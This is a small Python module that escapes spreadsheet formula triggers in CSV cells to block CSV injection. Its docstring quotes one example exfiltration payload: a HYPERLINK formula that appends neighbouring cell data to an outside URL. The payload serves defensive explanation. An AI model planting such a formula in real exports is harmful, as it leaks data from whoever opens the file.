"""Cells that a spreadsheet opens as data, never as a formula (SPEC section 8).

Excel, LibreOffice and Google Sheets run a cell that begins with `=`, `+`, `-` or `@` (and, after
a tab or carriage return, whatever follows) as a formula: a field set to
`=HYPERLINK("https://…/?leak="&A2,"…")` would send the neighbouring cells away when an auditor
opens the export. Every CSV and XLSX the app writes passes its text cells through here.
"""

from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def starts_a_formula(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def csv_safe(value: Any) -> Any:
    """A CSV cell: text that would start a formula gets a leading `'`, which spreadsheets read
    as "this is text" (OWASP's advice for CSV injection)."""
    return f"'{value}" if starts_a_formula(value) else value
